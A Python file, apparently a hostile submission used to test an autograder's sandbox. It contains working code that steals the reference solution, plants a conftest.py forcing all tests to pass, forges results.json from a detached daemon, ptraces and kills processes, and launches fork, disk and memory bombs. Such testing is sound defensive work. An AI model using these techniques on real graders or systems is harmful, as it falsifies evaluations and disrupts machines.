"""Hostile ex04: every function attacks the grader, then answers wrongly (or through a forbidden route).

The test fills in @CHECKOUT@ (the grader's checkout), @UPLOAD@ (this upload's folder) and
@REPORT@ (where results.json goes) before grading: a real attacker would guess them
(/autograder/source, /autograder/submission, /autograder/results/results.json), which are tried too.
Each attack runs once per worker and leaves what it achieved in an exception message or a
returned value, so anything that gets through shows up as points or text in the report.

- xcorr1d: steal the solution: import it, read it and the graded tests from the checkout, search
  the whole filesystem for it, read the upload's other files; answer with whatever it found.
- conv1d: write into the grader's files (a conftest.py that passes every test, sitecustomize.py),
  and leave a setsid double-forked daemon that ignores SIGTERM and rewrites results.json later.
- conv_output_size: signal, ptrace (ctypes and gdb) and read /proc/<pid>/mem of every process it
  can see, its parent included; then burn CPU (one second per call) to overrun the per-test limit.
- conv2d: fork and disk-filling bombs, then a memory bomb whose error reaches the report.
- im2col: flood the output, forge grader events into every pipe it can reach, then the right
  answer through torch._C._nn.im2col.
"""
import ctypes
import glob
import json
import os
import signal
import stat
import subprocess
import sys
import time

import torch

CHECKOUT = "@CHECKOUT@"
UPLOAD = "@UPLOAD@"
REPORTS = ["@REPORT@", "/autograder/results/results.json"]
MARKER = "HOSTILE-SUBMISSION-WAS-HERE"
FORGED = {"score": 1000, "max_score": 1000, "output": MARKER, "tests": []}
_done = set()


def once(name):
    if name in _done:
        return False
    _done.add(name)
    return True


def _try(action):
    try:
        return action()
    except BaseException as error:  # noqa: BLE001  (an attack that fails is the expected outcome)
        return error


def _read(path):
    with open(path) as file:
        return file.read()


# -- stealing ----------------------------------------------------------------------------------
def _stolen_solution():
    """The solution module's source, from anywhere it can be found, or None."""
    for name in ("course.exercises.ex04_convolution", "course.chapters.convolution"):
        module = _try(lambda: __import__(name, fromlist=["*"]))
        if hasattr(module, "xcorr1d") or hasattr(module, "cross_correlate1d"):
            return module
    paths = [f"{CHECKOUT}/course/exercises/ex04_convolution.py", "/autograder/source/course/exercises/ex04_convolution.py",
             f"{CHECKOUT}/tests/exercises/test_ex04_convolution.py"]
    for root in ("/", ):
        for folder, dirs, files in os.walk(root):
            dirs[:] = [d for d in dirs if d not in ("proc", "sys")]
            if "ex04_convolution.py" in files:
                paths.append(os.path.join(folder, "ex04_convolution.py"))
            if len(paths) > 50:
                break
    for path in paths:
        text = _try(lambda: _read(path))
        if isinstance(text, str) and "def xcorr1d" in text and "NotImplementedError" not in text.split("def xcorr1d")[1][:2000]:
            namespace = {}
            exec(compile(text, path, "exec"), namespace)
            return type("Stolen", (), {"xcorr1d": staticmethod(namespace["xcorr1d"])})
    return None


_stolen = []


def xcorr1d(x, w):
    if once("steal"):  # searching the whole filesystem once per worker is enough
        _stolen.append(_stolen_solution())
    stolen = _stolen[0] if _stolen else None
    secret = _try(lambda: _read(f"{UPLOAD}/notes/secret.txt"))
    if isinstance(secret, str):
        raise RuntimeError(f"read the upload's other file: {secret}")
    if stolen is not None:
        return stolen.xcorr1d(x, w)
    return torch.zeros(len(x) - len(w) + 1, dtype=x.dtype)


# -- writing into the grader's files; outliving grading ---------------------------------------------
CONFTEST = f'''
# {MARKER}
import pytest
@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    outcome.get_result().outcome = "passed"
'''


def _write(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as file:
        file.write(text)


def _daemon_rewriting_reports():
    """setsid double fork; ignores SIGTERM; rewrites every results.json it can for a while."""
    if os.fork() != 0:
        return
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    signal.signal(signal.SIGHUP, signal.SIG_IGN)
    for _ in range(600):
        for path in REPORTS:
            _try(lambda: _write(path, json.dumps(FORGED)))
        time.sleep(0.05)
    os._exit(0)


def conv1d(x, w):
    if once("write"):
        for path in (f"{CHECKOUT}/tests/conftest.py", f"{CHECKOUT}/tests/exercises/conftest.py",
                     "/autograder/source/tests/conftest.py", f"{CHECKOUT}/course/exercises/ex04_convolution.py",
                     os.path.join(os.path.dirname(os.__file__), "sitecustomize.py"),
                     *(os.path.join(p, "sitecustomize.py") for p in sys.path if p.endswith("site-packages"))):
            _try(lambda: _write(path, CONFTEST))
        _daemon_rewriting_reports()
    return torch.zeros(len(x) - len(w) + 1, dtype=x.dtype)


# -- signals, ptrace, /proc/<pid>/mem -----------------------------------------------------------------
def _attack_process(pid):
    libc = ctypes.CDLL(None, use_errno=True)
    _try(lambda: libc.ptrace(16, pid, None, None))  # PTRACE_ATTACH
    _try(lambda: open(f"/proc/{pid}/mem", "rb").read(4096))
    environ = _try(lambda: _read(f"/proc/{pid}/environ"))
    for fd in glob.glob(f"/proc/{pid}/fd/*"):
        _try(lambda: _write(fd, '0' * 64 + ' {"event":"end","outcome":"passed"}\n'))
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        _try(lambda: os.kill(pid, sig))
    return environ


def conv_output_size(n, k, stride=1, padding=0, dilation=1):
    if once("signals"):
        me = os.getpid()
        pids = {os.getppid(), 1, *(int(p) for p in os.listdir("/proc") if p.isdigit())} - {me, 0}
        for pid in pids:
            found = _attack_process(pid)
            if isinstance(found, str) and "COURSE_GRADER" in found:
                raise RuntimeError(f"read the grader's environment: {found[:200]}")
        _try(lambda: subprocess.run(["gdb", "-p", str(os.getppid()), "-batch", "-ex", "kill"],
                                    capture_output=True, timeout=20))
        _try(lambda: os.kill(-1, signal.SIGKILL))
        _try(lambda: os.killpg(0, signal.SIGKILL))
    deadline = time.process_time() + 1.0
    while time.process_time() < deadline:
        pass
    return -1


# -- bombs -----------------------------------------------------------------------------------------
def _fork_bomb():
    children = []
    for _ in range(10_000):
        pid = os.fork()
        if pid == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            time.sleep(3600)
            os._exit(0)
        children.append(pid)
    return children


def _disk_bomb():
    block = b"x" * (1 << 20)
    for i in range(100_000):
        with open(f"fill-{i}", "wb") as file:
            for _ in range(1024):
                file.write(block)


def conv2d(x, w, bias=None, stride=1, padding=0, dilation=1):
    if once("bombs"):
        errors = [_try(lambda: bytearray(2**36)), _try(_fork_bomb), _try(_disk_bomb)]
        print("bombs:", *(type(e).__name__ for e in errors))
    return torch.ones(2**36, dtype=torch.uint8).sum()  # 64 GiB: the error it raises goes into the report


# -- output flood, forged events, forbidden routes ------------------------------------------------
def im2col(x, k, stride=1, padding=0, dilation=1):
    if once("flood"):
        line = "PASSED  score: 1000/1000 " + MARKER + "\n"
        _try(lambda: [sys.stdout.write(line) for _ in range(400_000)])  # ~20 MB
        for fd in range(3, 256):  # every pipe it holds (its channel to the tests is a socket: see crash_and_forge)
            mode = _try(lambda: os.fstat(fd).st_mode)
            if isinstance(mode, int) and stat.S_ISFIFO(mode):
                _try(lambda: os.write(fd, b"0" * 64 + b' {"event":"end","nodeid":"x","outcome":"passed","message":""}\n'))
    k = (k, k) if isinstance(k, int) else k
    as_pair = lambda v: (v, v) if isinstance(v, int) else v  # noqa: E731
    return torch._C._nn.im2col(x, k, as_pair(dilation), as_pair(padding), as_pair(stride))
